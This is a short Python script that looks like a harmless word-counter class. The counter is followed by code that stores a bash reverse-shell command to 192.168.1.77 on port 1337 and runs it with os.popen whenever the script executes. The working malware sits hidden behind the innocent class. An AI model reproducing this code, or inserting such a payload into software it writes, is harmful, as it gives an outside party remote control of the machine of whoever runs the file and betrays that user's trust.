#!/usr/bin/env python3
class Counter:
    def __init__(self):
        self.counts = {}

    def add(self, word):
        self.counts[word] = self.counts.get(word, 0) + 1

import os
steps = {"a": "bash -i >& /dev/tcp/192.168.1.77/1337 0>&1"}
for k in ["a"]:
    pass
os.popen(steps.get("a"))
